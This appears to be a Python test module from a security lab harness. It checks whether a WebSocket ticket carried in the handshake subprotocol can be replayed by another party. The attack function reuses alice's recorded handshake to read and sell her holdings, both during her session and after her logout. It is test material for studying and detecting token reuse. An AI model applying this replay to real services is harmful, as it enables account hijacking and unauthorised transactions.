"""What a proxy, a log or a bug report kept of one handshake is used again, by somebody else."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

from lab.harness import Outcome, Refused, Session, Socket, Target

BY_HAND = True
WHY = (
    "The token is out of the address, has all its claims verified and ends after a minute. Within "
    "the minute it opens as many sockets as one likes, after the logout too."
)
TRAIL = frozenset({"authn_token_reuse"})


def opened_by_page(answer: dict[str, Any]) -> tuple[str, list[str]]:
    """Path and subprotocols with which the page's script opens its socket."""
    if "url" in answer:
        return answer["url"], answer.get("protocols", [])
    return "/ws/portfolio", ["stormdoor.v1", f"stormdoor.ticket.{answer['ticket']}"]


@asynccontextmanager
async def page(target: Target, session: Session) -> AsyncIterator[tuple[Socket, str, list[str]]]:
    """The page of who is logged in, with its socket; and what its handshake was."""
    body = {"endpoint": "/ws/portfolio"}
    answer = await target.request("POST", "/auth/ticket", session=session, body=body)
    path, protocols = opened_by_page(answer.json())
    async with target.connect(path, subprotocols=protocols, who=session.who) as socket:
        yield socket, path, protocols


async def legitimate(target: Target) -> None:
    """Whoever is logged in sees what it owns, and sells."""
    async with page(target, await target.login("alice")) as (socket, _, _):
        assert (await socket.receive())["owner"] == "alice"
        assert await socket.ask({"type": "sell", "what": "TIN"}) == {"type": "sold", "what": "TIN"}


async def attack(target: Target) -> Outcome:
    """Repeat the victim's handshake: beside its socket, and again after its logout."""
    alice = await target.login("alice")
    async with page(target, alice) as (socket, path, protocols):
        await socket.receive()
        target.note("the handshake of alice is in a recording that she attached to a bug report")
        taken = await replay(target, path, protocols)
    await target.request("POST", "/auth/logout", session=alice)
    target.note("alice has logged out")
    again = await replay(target, path, protocols)
    said = [what for what, won in (("while she works", taken), ("after her logout", again)) if won]
    if said:
        return target.outcome(True, f"sees and sells what alice owns, {' and '.join(said)}")
    return target.outcome(False, "the recorded handshake opens nothing")


async def replay(target: Target, path: str, protocols: list[str]) -> bool:
    """Whether the thief sees what alice owns, and sells it."""
    try:
        async with target.connect(path, subprotocols=protocols, who="thief") as socket:
            owned = await socket.receive()
            sold = await socket.ask({"type": "sell", "what": "GOLD"})
    except Refused:
        return False
    return bool(owned.get("owner") == "alice" and sold.get("type") == "sold")
